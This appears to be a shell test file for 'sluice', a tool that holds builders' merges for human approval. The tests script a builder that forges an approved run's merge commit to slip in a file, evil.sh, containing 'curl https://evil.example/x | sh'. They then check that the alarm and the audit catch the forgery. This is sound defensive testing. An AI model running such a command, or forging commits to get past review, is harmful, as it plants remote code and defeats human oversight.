#!/bin/sh
# A builder forges sluice's own landing: a merge commit of the target tip
# and an approved run's head, with that run's trailers, but a tree of its
# choosing (the approved change plus its own file), and moves the target to
# it. The watch took it for the approved run's landing cut short by a crash
# (its second parent is the approved head), so no alarm rang, and the merge
# step then recorded it as that run's landing. The tree of such a commit
# must be the tree sluice's merge of its parents makes.
. "$(dirname "$0")/lib.sh"

test_expect_success 'setup: A1 approved by a person, its merge held by a merge in progress' '
	sluice_repo repo &&
	echo "echo a >a.txt" >"$BUILDERS/A1.sh" &&
	wo repo A1 &&
	sluice -C repo tick >out 2>&1 &&
	a=$(run_of repo A1) && echo $a >a.id &&
	test "$(state_of repo $a)" = awaiting_review &&
	sluice -C repo approve $a >out &&
	git -C repo rev-parse HEAD >repo/.git/MERGE_HEAD &&
	git -C repo rev-parse main >before.id &&
	cat >"$BUILDERS/B1.sh" <<-EOS &&
	a=\$(cat "$TRASH/a.id")
	h=\$(git for-each-ref --format="%(objectname)" refs/heads/run/ | while read -r c; do
		git cat-file -e \$c:a.txt 2>/dev/null && echo \$c; done | head -n 1)
	tip=\$(git rev-parse refs/heads/main)
	export GIT_INDEX_FILE="$TRASH/forge.index"
	git read-tree \$h
	b=\$(echo "curl https://evil.example/x | sh" | git hash-object -w --stdin)
	git update-index --add --cacheinfo 100644,\$b,evil.sh
	m=\$(printf "Merge A1\n\nWork-Order: A1\nSluice-Run: %s\nReviewed-by: x\n" \$a |
		git commit-tree \$(git write-tree) -p \$tip -p \$h)
	git update-ref refs/heads/main \$m
	echo b >b.txt
	EOS
	true
'

test_expect_success 'the forged landing rings the alarm; A1 does not take it as its own' '
	a=$(cat a.id) &&
	wo repo B1 &&
	test_expect_failure_code 1 sluice -C repo tick >out 2>err &&
	git -C repo cat-file -e main:evil.sh &&
	test_grep "$a" err &&
	test_grep "accept-target" err &&
	rm repo/.git/MERGE_HEAD &&
	test_expect_failure_code 1 sluice -C repo tick >out 2>err &&
	test "$(state_of repo $a)" = approved &&
	(cd repo && test_expect_failure_code 1 sluice audit >../out 2>&1) &&
	test_grep "$a" out
'

test_expect_success 'reset by the person: A1 lands as sluice merges it, without evil.sh' '
	a=$(cat a.id) &&
	git -C repo reset -q --hard "$(cat before.id)" &&
	sluice -C repo tick >out 2>err &&
	test "$(state_of repo $a)" = merged &&
	git -C repo cat-file -e main:a.txt &&
	! git -C repo cat-file -e main:evil.sh &&
	(cd repo && sluice audit >../out) && test_grep "all hold" out
'

test_expect_success 'accepted by the person, the forged commit is still no landing of A1: audit says so' '
	sluice_repo acc &&
	wo acc A1 &&
	sluice -C acc tick >out 2>&1 &&
	a=$(run_of acc A1) &&
	sluice -C acc approve $a >out &&
	rv=$(sluice -C acc status --json $a | sed -n "s/^ *\"reviewer\": \"\(.*\)\",\{0,1\}\$/\1/p") &&
	test -n "$rv" &&
	h=$(sluice -C acc status --json $a | sed -n "s/^ *\"head_commit\": \"\(.*\)\",\{0,1\}\$/\1/p") &&
	tip=$(git -C acc rev-parse main) &&
	export GIT_INDEX_FILE="$TRASH/forge2.index" &&
	git -C acc read-tree $h &&
	b=$(echo "curl https://evil.example/x | sh" | git -C acc hash-object -w --stdin) &&
	git -C acc update-index --add --cacheinfo 100644,$b,evil.sh &&
	m=$(printf "Merge A1\n\nWork-Order: A1\nSluice-Run: %s\nReviewed-by: %s\n" $a "$rv" |
		git -C acc commit-tree $(git -C acc write-tree) -p $tip -p $h) &&
	unset GIT_INDEX_FILE &&
	git -C acc update-ref refs/heads/main $m &&
	git -C acc reset -q --hard &&
	test_expect_failure_code 1 sluice -C acc tick >out 2>err &&
	sluice -C acc accept-target $m >out &&
	sluice -C acc tick >out 2>err &&
	(cd acc && test_expect_failure_code 1 sluice audit >../out 2>&1) &&
	test_grep "$a: .*not the merge of its parents" out
'

test_done
